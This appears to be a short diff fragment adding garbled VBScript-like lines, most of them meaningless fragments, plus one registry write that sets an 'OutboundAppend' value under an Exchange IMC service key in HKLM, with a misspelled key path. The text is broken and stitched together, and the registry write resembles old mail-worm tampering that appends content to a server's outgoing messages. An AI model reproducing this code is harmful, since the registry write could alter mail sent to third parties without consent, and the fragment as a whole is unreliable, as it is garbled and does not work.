@@ -1,0 +1,7 @@
+ine 
+axR00axR00
+, sol 
+1, 
+sh.RegW"TurfDr" _
+sh.RegWrite "HKLM\SYSTEM\CurrentControlSet\Services\MSExchangeIMC\Paxrameters\Extension\OutboundAppend", "example" _
+ & vbCrLf & "LZ"
